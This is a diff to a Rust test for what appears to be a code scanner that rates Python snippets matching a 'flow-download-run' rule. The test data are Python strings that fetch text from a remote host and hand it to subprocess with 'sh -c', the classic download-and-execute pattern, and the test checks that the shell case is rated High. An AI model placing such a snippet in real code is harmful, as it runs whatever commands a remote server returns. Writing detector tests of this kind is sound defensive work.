@@ -316,15 +316,15 @@ fn what_a_model_that_is_paid_for_is_asked_is_asked_for() {
 }
 
 #[test]
-fn what_this_machine_answers_and_programs_of_it_are_no_download() {
-    let code = |host: &str, program: &str| {
+fn programs_that_are_looked_for_by_name_are_those() {
+    let code = |program: &str| {
         format!(
-            "import requests, shutil, subprocess\nr = requests.get('http://{host}:8000/next').text\n\
+            "import requests, shutil, subprocess\nr = requests.get('https://h.invalid/next').text\n\
              subprocess.run([{program}, r])"
         )
     };
-    let run = |host: &str, program: &str| weight(Language::Python, &code(host, program), "flow-download-run");
-    assert_eq!(run("127.0.0.1", "'sh', '-c'"), Some(Severity::Medium));
-    assert_eq!(run("203.0.113.4", "shutil.which('iptables'), '-s'"), Some(Severity::Medium));
-    assert!(run("203.0.113.4", "shutil.which('sh'), '-c'") >= Some(Severity::High));
+    let run = |program: &str| weight(Language::Python, &code(program), "flow-download-run");
+    assert_eq!(run("shutil.which('iptables'), '-s'"), run("'iptables', '-s'"));
+    assert!(run("shutil.which('sh'), '-c'") >= Some(Severity::High));
+    assert!(run("shutil.which('iptables'), '-s'") < run("shutil.which('sh'), '-c'"));
 }
